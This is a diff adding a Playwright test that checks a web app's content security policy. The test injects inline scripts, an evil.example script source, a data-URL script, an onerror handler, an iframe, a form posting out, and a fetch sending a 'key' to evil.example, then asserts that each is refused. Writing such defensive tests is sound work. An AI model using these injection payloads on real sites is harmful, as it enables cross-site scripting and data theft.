@@ -97,3 +97,40 @@ test("a bet, its proof and every Select, menu and tip keep the content policy, t
   for (const [name, order] of Object.entries(layers))
     expect(order, name).toEqual(["theme", "base", "components", "utilities"])
 })
+
+test("what somebody brings into a page runs nothing and reaches nobody: scripts, handlers, frames, forms, requests", async ({
+  page,
+  stack: _,
+}) => {
+  const refused = await refusals(page)
+  await page.goto("/")
+  await alive(page)
+  await page.evaluate(async () => {
+    const bring = (html: string) => {
+      const place = document.createElement("div")
+      place.innerHTML = html
+      // Scripts that come as a text never run; one that is made does, where the policy lets it.
+      for (const { textContent, attributes } of place.querySelectorAll("script")) {
+        const made = document.createElement("script")
+        for (const { name, value } of attributes) made.setAttribute(name, value)
+        made.textContent = textContent
+        place.append(made)
+      }
+      document.body.append(place)
+    }
+    bring(`<script>window.ran = "a script"</script>`)
+    bring(`<script src="https://evil.example/x.js"></script>`)
+    bring(`<script src="data:text/javascript,window.ran='a data URL'"></script>`)
+    bring(`<img src="/nothing.png" onerror="window.ran = 'a handler'">`)
+    bring(`<iframe src="https://evil.example/"></iframe>`)
+    bring(`<form action="https://evil.example/"><button>Sign</button></form>`)
+    document.querySelector<HTMLButtonElement>(`form[action^="https://evil"] button`)?.click()
+    await fetch("https://evil.example/?key").catch(() => undefined)
+    setTimeout("window.ran = 'a text'")
+  })
+  const named = () => [...new Set(refused.map((line) => line.split(" ")[1]))].sort()
+  await expect
+    .poll(named)
+    .toEqual(["connect-src", "form-action", "frame-src", "script-src", "script-src-attr", "script-src-elem"])
+  expect(await page.evaluate(() => Reflect.get(window, "ran"))).toBeUndefined()
+})
